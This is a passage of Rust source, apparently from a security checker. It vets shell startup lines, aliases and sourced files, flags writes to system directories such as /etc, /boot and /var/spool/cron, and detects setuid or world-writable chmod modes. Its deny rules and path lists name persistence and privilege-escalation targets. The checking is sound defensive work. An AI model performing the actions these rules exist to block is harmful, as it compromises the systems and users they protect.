            let program = tool.split_whitespace().next().unwrap_or_default();
            let program = program.rsplit('/').next().unwrap_or(program);
            return (INIT_TOOLS.contains(&program)
                || tool.split_whitespace().any(|w| {
                    matches!(
                        w,
                        "init" | "completion" | "alias" | "shellenv" | "hook" | "env"
                    )
                }))
                && !DOWNLOADERS.contains(&program)
                && !matches!(program, "base64" | "echo" | "printf" | "xxd" | "cat")
                && !tool.contains(['`', ';', '|', '&'])
                && inner.matches("$(").count() == 1;
        }
        if unsafe_chars {
            return false;
        }
        if let Some(rest) = line.strip_prefix("alias ") {
            let name = rest.split('=').next().unwrap_or_default().trim();
            return !HIJACKED.contains(&name);
        }
        if let Some(file) = line
            .strip_prefix("source ")
            .or_else(|| line.strip_prefix(". "))
        {
            let file = file.trim().trim_matches(['"', '\'']);
            return file.starts_with('~') || file.starts_with("$HOME") || file.starts_with("/usr/");
        }
        let assignment = line.strip_prefix("export ").unwrap_or(line);
        assignment.split_once('=').is_some_and(|(name, _)| {
            !name.is_empty() && name.bytes().all(|b| b == b'_' || b.is_ascii_alphanumeric())
        })
    })
}

fn is_system_subtree(path: &str) -> bool {
    const ROOTS: &[&str] = &[
        "/etc/",
        "/bin/",
        "/sbin/",
        "/usr/bin/",
        "/usr/sbin/",
        "/usr/lib/",
        "/lib/",
        "/lib64/",
        "/boot/",
        "/root/",
        "/var/spool/cron",
        "/system/",
    ];
    let lower = path.to_ascii_lowercase();
    ROOTS.iter().any(|r| lower.starts_with(r))
}

/// (others may write, sets setuid) for a chmod mode.
fn parse_mode(mode: &str) -> (bool, bool) {
    if !mode.is_empty() && mode.len() <= 5 && mode.bytes().all(|b| (b'0'..=b'7').contains(&b)) {
        let value = u32::from_str_radix(mode, 8).unwrap_or(0);
        return (value & 0o002 != 0, value & 0o4000 != 0);
    }
    let mut world_writable = false;
    let mut setuid = false;
    for clause in mode.split(',') {
        let who_len = clause.bytes().take_while(|b| b"ugoa".contains(b)).count();
        let (who, rest) = clause.split_at(who_len);
        let Some(op) = rest.chars().next() else {
            continue;
        };
        if op != '+' && op != '=' {
            continue;
        }
        let perms = &rest[1..];
        if perms.contains('w') && (who.contains('o') || who.contains('a')) {
            world_writable = true;
        }
        if perms.contains('s') && (who.is_empty() || who.contains('u') || who.contains('a')) {
            setuid = true;
        }
    }
    (world_writable, setuid)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reads_chmod_modes() {
        assert_eq!(parse_mode("777"), (true, false));
        assert_eq!(parse_mode("755"), (false, false));
        assert_eq!(parse_mode("4755"), (false, true));
        assert_eq!(parse_mode("u+s"), (false, true));
        assert_eq!(parse_mode("+x"), (false, false));
        assert_eq!(parse_mode("a+rwx"), (true, false));
        assert_eq!(parse_mode("g+s"), (false, false));
    }
}
